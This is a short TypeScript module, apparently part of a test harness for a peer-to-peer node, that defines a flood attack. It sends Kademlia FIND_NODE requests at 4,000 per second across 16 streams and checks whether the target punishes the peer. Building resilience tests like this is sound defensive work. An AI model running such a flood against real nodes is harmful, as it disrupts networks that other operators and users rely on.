/** FIND_NODE as fast as it goes, by a peer that has greeted: the one call that is served, beyond its limit. */

import { randomBytes } from "node:crypto";
import { type Attack, atRate, persist, sideBySide } from "../attack.ts";
import { nameOf, pour } from "../peer.ts";
import { KAD, kademlia } from "../wire.ts";

const STREAMS = 16;
const PER_SECOND = 4_000;

export const attack: Attack = {
  claim: "FIND_NODE 4,000 times a second over 16 streams, greeted",
  isPunished: true,
  run: (context) =>
    persist(
      context,
      async (peer) => {
        await sideBySide(STREAMS, async () => {
          let stream = await peer.open(nameOf(context.target.chain, "kad"));
          stream.addEventListener("message", () => undefined);
          await atRate(context, PER_SECOND / STREAMS, async () => {
            context.count("messages");
            if (await pour(stream, kademlia(KAD.findNode, randomBytes(32)))) return true;
            stream = await peer.open(nameOf(context.target.chain, "kad"));
            return true;
          });
        });
      },
      true,
    ),
};
